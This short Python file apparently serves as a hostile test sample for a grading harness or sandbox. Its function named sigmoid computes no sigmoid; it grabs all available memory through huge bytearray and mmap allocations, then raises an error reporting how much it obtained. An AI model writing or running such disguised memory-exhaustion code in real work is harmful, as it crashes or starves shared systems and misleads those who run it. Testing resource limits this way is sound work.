# It takes all memory, in one piece and bit by bit.
# It earns 0.

import mmap

def mmap_of(size):
    return mmap.mmap(-1, size)

def sigmoid(x):
    kept = []
    for size, make in ((2**36, bytearray), (2**30, mmap_of), (2**26, mmap_of)):
        try:
            while True:
                kept.append(make(size))
        except (MemoryError, OSError):
            pass
    raise ValueError(f"SEEN True {['much'] if sum(map(len, kept)) > 2**30 else []}")
